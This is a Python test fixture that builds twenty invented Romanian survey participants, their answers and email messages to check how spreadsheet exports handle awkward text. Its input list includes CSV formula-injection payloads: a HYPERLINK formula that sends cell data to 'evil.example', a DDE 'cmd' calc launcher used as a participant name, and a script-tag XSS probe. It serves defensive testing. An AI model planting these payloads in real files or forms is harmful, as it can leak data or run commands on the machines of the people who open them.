"""Twenty invented participants with texts that are hard on spreadsheets, and the facts of their survey."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta
from typing import Any

from llab.records import (
    Contact,
    ContactKind,
    ContactState,
    DeliveryOutcome,
    DeliveryReport,
    Match,
    MatchedBy,
    MessageKind,
    PrintedQuestion,
    Reading,
    ReadMessage,
)
from llab.survey.participants import Participant
from llab.survey.questionnaire import Questionnaire
from llab.survey.response import (
    Answer,
    AnswerVersion,
    ChoiceAnswer,
    DateAnswer,
    MultiAnswer,
    NumberAnswer,
    Response,
    ScaleAnswer,
    TextAnswer,
    YesNoAnswer,
)
from llab.tables.facts import Facts

START = datetime(2026, 3, 28, 22, 30, tzinfo=UTC)
"""The night in which Bucharest's clocks go forward."""

NOW = datetime(2026, 4, 20, 9, 0, tzinfo=UTC)

LONG = "Un oraș care ascultă are nevoie de timp și de răbdare. \n" * 1_300
"""72,800 characters: three cells."""

NASTY = (
    "=1+1",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"press\")",
    "+40 256 000 000, sunați oricând",
    "-  nu știm\n-  poate",
    "@SUM(1;2)",
    "#N/A",
    "TRUE",
    "_x0041_ și _x000D_ rămân cum sunt",
    "cu un \x00 nul, un \x0b salt și un \x1b[31m terminal",
    "jumătate de pereche \ud83d și capete \ufffe\uffff",
    "rând unu\r\nrând doi\rrând trei",
    "  spații la început și la sfârșit  ",
    "\ttab",
    "2021-05-04",
    "007",
    "'citat'",
    "<b>&amp; <script>alert(1)</script> ]]>",
    "👩‍👩‍👧‍👦 Familia ȘȚĂÎÂ, ελληνικά, עברית, 中文",
    "https://orasul.example/program?a=1&b=2",
    LONG,
)  # fmt: skip

WORDS = (
    "Prin întâlniri scurte, în cartiere, la ore la care antreprenorii pot veni. Newslettere nu citește nimeni; un telefon ajută mai mult.",
    "Rețele sociale, presa locală, și mai ales asociațiile de antreprenori.",
    "Cunosc prea puțin. Cei mai mulți cred că e doar pentru artiști.",
)

QUESTIONS: tuple[dict[str, Any], ...] = (
    {
        "id": "q1", "type": "text",
        "text": {"ro": "Cum putem comunica eficient IMM-urilor rolul și nevoile programului?", "en": "How can we tell SMEs about it?"},
    },
    {"id": "q2", "type": "text", "text": {"ro": "Ce canale pot fi folosite în acest sens?", "en": "Which channels?"}, "required": True},
    {
        "id": "sector", "type": "choice", "text": "În ce sector lucrați?",
        "options": [{"value": "it", "label": {"ro": "Tehnologie", "en": "IT"}}, {"value": "art", "label": {"ro": "Cultură", "en": "Arts"}}],
    },
    {
        "id": "help", "type": "multi", "text": "Ce v-ar ajuta?", "help": "Alegeți oricâte.",
        "options": [{"value": "bani", "label": "Finanțare"}, {"value": "spatiu", "label": "Spațiu"}, {"value": "=om", "label": "=Oameni"}],
    },
    {"id": "trust", "type": "scale", "text": "Câtă încredere aveți?", "min": 1, "max": 5},
    {"id": "staff", "type": "number", "text": "Câți angajați aveți?"},
    {"id": "again", "type": "yesno", "text": "Ați mai participa?"},
    {"id": "since", "type": "date", "text": "Din ce zi funcționați?"},
)  # fmt: skip

SURVEY = {
    "id": "lll2",
    "title": {"ro": "Laboratorul 2 – șapte întrebări & altele", "en": "Lab 2"},
    "languages": ["ro", "en"],
    "timezone": "Europe/Bucharest",
}


def questionnaire() -> Questionnaire:
    return Questionnaire.model_validate({"survey": SURVEY, "questions": QUESTIONS})


def _person(number: int) -> Participant:
    cities = ("Timișoara", "Arad", "Lugoj", "")
    return Participant(
        id=f"p{number:02}",
        addresses=(f"persoana{number:02}@firma.example",),
        name=("Ștefan Țiriac", "Ana-Maria Popescu-Ionescu", "=cmd|' /C calc'!A0", "Ioana Pop")[number % 4],
        language=("ro", "ro", "en")[number % 3],
        attributes={"Oraș": cities[number % 4], "answer": f"S.C. Exemplul {number} S.R.L.", "Oraș ": "x" if number % 2 else "y"},
        gone=number == 19,
    )


def contact(number: int, state: ContactState = ContactState.ACCEPTED) -> Contact:
    return Contact(
        message_id=f"<{number:02}@lab.example>",
        participant=f"p{number:02}",
        kind=ContactKind.INVITATION,
        address=f"persoana{number:02}@firma.example",
        language="ro",
        questionnaire="0" * 64,
        printed=tuple(PrintedQuestion(question=question["id"], label=f"{label}.") for label, question in enumerate(QUESTIONS, start=1)),
        state=state,
        attempts=1,
        recorded=START - timedelta(days=3),
        at=START - timedelta(days=3) + timedelta(seconds=number) if state is not ContactState.PENDING else None,
    )


def _answers(number: int) -> tuple[Answer, ...]:
    doubt = {
        "confidence": 0.62,
        "review": True,
        "how": "order alone",
        "reasons": ("only the order says which question this is", "=also a formula"),
    }
    sure = {"confidence": 0.97, "review": False, "how": "under its question"}
    text = NASTY[number] if number < len(NASTY) else WORDS[0]
    answers: list[Answer] = [TextAnswer.model_validate({"question": "q1", "text": text, **(doubt if number % 5 == 2 else sure)})]
    if number % 3:
        answers.append(TextAnswer.model_validate({"question": "q2", "text": WORDS[number % 3], **sure}))
    if number % 2:
        answers += [
            ChoiceAnswer.model_validate({"question": "sector", "text": "cultură, evident", "value": "art", **sure}),
            MultiAnswer.model_validate({"question": "help", "text": "bani și oameni", "value": ("bani", "=om"), **sure}),
            ScaleAnswer.model_validate({"question": "trust", "text": f"cam {number % 5 + 1}", "value": number % 5 + 1, **sure}),
            NumberAnswer.model_validate({"question": "staff", "text": "vreo douăsprezece virgulă cinci", "value": 12.5 + number, **sure}),
            YesNoAnswer.model_validate({"question": "again", "text": "da", "value": True, **sure}),
            DateAnswer.model_validate(
                {"question": "since", "text": "din 1 mai", "value": date(1890 if number == 1 else 2019, 5, 1), **sure}
            ),
        ]
    elif number == 4:
        answers.append(ScaleAnswer.model_validate({"question": "trust", "text": "depinde", "value": None, **doubt}))
    return tuple(answers)


def _response(number: int) -> Response:
    return Response(
        participant=f"p{number:02}",
        versions=tuple(
            AnswerVersion(
                participant=f"p{number:02}", version=1, answer=answer, message=_message_id(number), received=START + timedelta(hours=number)
            )
            for answer in _answers(number)
        ),
    )


def _message_id(number: int) -> str:
    return f"{number:02x}" * 32


def message(number: int, reading: Reading | None, *, known: bool = True, **more: object) -> ReadMessage:
    return ReadMessage.model_validate(
        {
            "message": _message_id(number), "parser": "1", "content": _message_id(number), "author": f"persoana{number:02}@firma.example",
            "subject": "Re: Laboratorul 2 =1+1", "arrived": START + timedelta(hours=number), "reading": reading,
            "match": Match(participant=f"p{number:02}", by=MatchedBy.ADDRESS) if known else Match(participant=None, by=MatchedBy.NOTHING),
            **more,
        }
    )  # fmt: skip


ANSWERED = (*range(13), 19)


def _messages() -> tuple[ReadMessage, ...]:
    answered = tuple(
        message(
            number, Reading(kind=MessageKind.ANSWERS, answers=_answers(number), unassigned="P.S. =SUM(A1) salutări" if number == 3 else "")
        )
        for number in ANSWERED
    )
    failed = DeliveryReport(outcome=DeliveryOutcome.FAILED, status="5.1.1", original_message_id="<13@lab.example>")
    return (
        *answered,
        message(13, Reading(kind=MessageKind.BOUNCE, delivery=failed)),
        message(14, Reading(kind=MessageKind.AUTOMATIC, away_until=date(2026, 5, 1))),
        message(15, Reading(kind=MessageKind.OPT_OUT, opt_out=True)),
        message(
            16, Reading(kind=MessageKind.NO_ANSWER, unassigned="Mulțumesc, revin săptămâna viitoare.", review=True, reasons=("a promise",))
        ),
        message(40, None, known=False, author="necunoscut@altundeva.example"),
        message(41, None, unreadable="more than 1,000 nested parts"),
        message(42, None, duplicate_of=_message_id(3)),
    )


def facts(*, now: datetime = NOW, version: str = "0.1.0") -> Facts:
    """Twenty participants: fourteen answered, one each is undelivered, away, opted out, replied; one silent, one pending."""
    people = tuple(_person(number) for number in range(20))
    contacts = tuple(contact(number, ContactState.PENDING if number == 18 else ContactState.ACCEPTED) for number in range(20))
    return Facts(
        questionnaire=questionnaire(),
        participants=people,
        contacts=contacts,
        responses=tuple(_response(number) for number in ANSWERED),
        messages=_messages(),
        fates={
            "answers": 14,
            "bounce": 1,
            "auto-reply": 1,
            "opt-out": 1,
            "no-answer": 1,
            "unmatched": 1,
            "unreadable": 1,
            "duplicate": 1,
            "ours": 2,
        },
        now=now,
        version=version,
    )


def no_answers() -> Facts:
    """The survey on its first day: nobody on the list has been written to."""
    return Facts(questionnaire=questionnaire(), participants=(), contacts=(), responses=(), messages=(), fates={}, now=NOW, version="0.1.0")
